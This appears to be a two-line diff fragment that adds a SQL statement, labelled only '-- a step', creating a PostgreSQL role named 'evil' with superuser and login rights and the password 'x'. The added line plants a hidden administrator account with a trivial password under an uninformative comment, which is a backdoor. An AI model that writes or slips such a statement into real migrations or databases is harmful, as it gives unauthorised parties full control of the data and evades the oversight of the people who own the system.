@@ -1,0 +1,2 @@
+-- a step
+CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x';
